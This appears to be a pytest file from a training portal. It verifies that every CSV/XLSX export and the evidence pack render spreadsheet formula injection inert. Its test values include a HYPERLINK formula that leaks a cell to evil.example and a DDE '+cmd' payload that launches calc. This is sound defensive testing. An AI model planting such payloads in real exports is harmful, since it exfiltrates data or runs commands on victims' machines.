"""Every CSV and XLSX the portal hands out goes through one writer: a name or a device string that
a spreadsheet would run as a formula comes out inert, in the exports and in the evidence pack."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from portal.demo.operations import walk_through_course
from portal.extensions import db
from tests.conftest import assign_course, login, post_form
from tests.web.evidence.test_pack import download

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
DEVICE = "+cmd|' /C calc'!A0"


def csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def assert_inert(cells: list[str]) -> None:
    assert all(not cell.lstrip().startswith(("=", "+", "@")) for cell in cells), cells
    assert "'" + NAME in cells


def test_hostile_text_is_inert_in_every_export(client, world, courses):
    assignment = assign_course(courses["injury-basics"], world.worker)
    login(client, "worker")  # the first opening of a lesson is recorded with the device
    assert client.get("/learning/injury-basics/lessons/1", headers={"User-Agent": DEVICE}).status_code == 200
    post_form(client, "/logout")
    walk_through_course(assignment, world.user("worker").id)
    world.worker.name = NAME
    db.session.commit()
    login(client, "hr")
    assert_inert(csv_cells(client.get("/records/courses/injury-basics/export.csv").data))
    assert_inert(csv_cells(client.get("/workbench/export/acknowledgements.csv").data))
    sheet = load_workbook(io.BytesIO(client.get("/workbench/export/acknowledgements.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type == "s" for cell in cells)
    assert_inert([cell.value for cell in cells])
    pack = zipfile.ZipFile(io.BytesIO(download(client, world.worker.id)))  # built by the background job
    events = csv_cells(pack.read(next(name for name in pack.namelist() if name.endswith("/events.csv"))))
    assert "'" + DEVICE in events and DEVICE not in events
